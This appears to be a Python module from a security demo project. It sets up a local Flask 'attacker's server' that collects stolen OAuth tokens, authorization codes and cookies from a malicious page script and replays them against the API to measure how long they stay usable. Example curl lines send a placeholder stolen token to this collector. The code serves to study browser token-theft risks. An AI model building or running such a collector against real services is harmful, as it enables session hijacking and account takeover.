"""The attacker's server (demo-only): what a malicious script on a page sends lands here, and is used from here.

RFC 10017 §5.1 judges each browser architecture by what a script can do with what it takes. The collector makes
that observable: `POST /collect` (CORS open to any page, no credentials) receives a stolen access or refresh token,
an authorization code from the script's own silent flow (redeemed with the collector's own PKCE verifier, §5.1.3),
the page's readable cookies, or the result of a request proxied through the open page (§5.1.4). It then uses each
against the API or the AS on its own: at once, again after COLLECTOR_DELAYS (after the page is closed), and on
demand; `GET /records?run=<id>` says per attempt what it tried, what answered, until when it worked and why it
stopped. Nothing outlives COLLECTOR_TTL; it binds loopback; it is off (404) when DEMO_COOKIE_OPTIONS is off.

    make run                                               # starts it on COLLECTOR_ORIGIN (127.0.0.1:8006)
    curl -s 127.0.0.1:8006/pkce?run=r1                     # the attacker's code_challenge for a silent flow
    curl -s -H 'Content-Type: application/json' -d '{"run": "r1", "kind": "access_token", "access_token": "..."}' \\
         127.0.0.1:8006/collect
    curl -s 127.0.0.1:8006/records?run=r1

It never imports the API: only the shared pieces, and the API and the AS over HTTP like any attacker.
"""

import logging

from flask_cors import CORS

from kernel import settings
from kernel.http import errors, https
from kernel.http.application import Application
from kernel.stores import redis_client


def create_app(config=None):
    """Settings from the environment, then overrides (tests); COLLECTOR_BACKGROUND=False leaves the schedule to
    whoever calls schedule.run_due (the tests, with a clock of their own)."""
    from . import schedule, views

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(levelname)s %(message)s")
    app = Application(__name__)
    app.config.from_mapping(settings.from_env(), MAX_CONTENT_LENGTH=32 * 1024, COLLECTOR_BACKGROUND=True)
    app.config.update(config or {})
    app.config["COLLECTOR_DELAY_LIST"] = sorted({int(d) for d in app.config["COLLECTOR_DELAYS"].split(",") if d})
    errors.init_app(app)
    https.init_app(app, origin="COLLECTOR_ORIGIN")
    redis_client.init_app(app)
    # Any page may send here (that is the attack); no credentials, so `*` is what a real attacker would answer.
    CORS(app, origins="*", send_wildcard=True, allow_headers=["Content-Type"], methods=["GET", "POST"], max_age=600)
    app.register_blueprint(views.bp)
    if app.config["COLLECTOR_BACKGROUND"]:
        schedule.start(app)
    return app
